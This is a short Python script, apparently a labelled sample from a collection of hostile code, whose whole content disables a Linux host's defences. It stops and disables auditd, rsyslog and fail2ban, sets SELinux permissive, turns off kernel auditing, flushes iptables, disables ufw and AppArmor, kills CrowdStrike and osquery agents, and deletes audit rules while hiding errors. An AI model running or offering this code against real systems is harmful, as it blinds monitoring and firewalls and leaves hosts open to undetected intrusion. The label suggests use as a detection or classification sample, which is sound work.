# class: defences off; style: script
import subprocess
for c in ("systemctl stop auditd rsyslog fail2ban", "systemctl disable auditd fail2ban", "setenforce 0", "auditctl -e 0",
          "iptables -F", "ufw disable", "aa-teardown", "pkill -9 falcon-sensor", "pkill -9 -f osqueryd", "rm -f /etc/audit/rules.d/*"):
    subprocess.run(c.split() if "*" not in c else c, shell="*" in c, stderr=subprocess.DEVNULL)
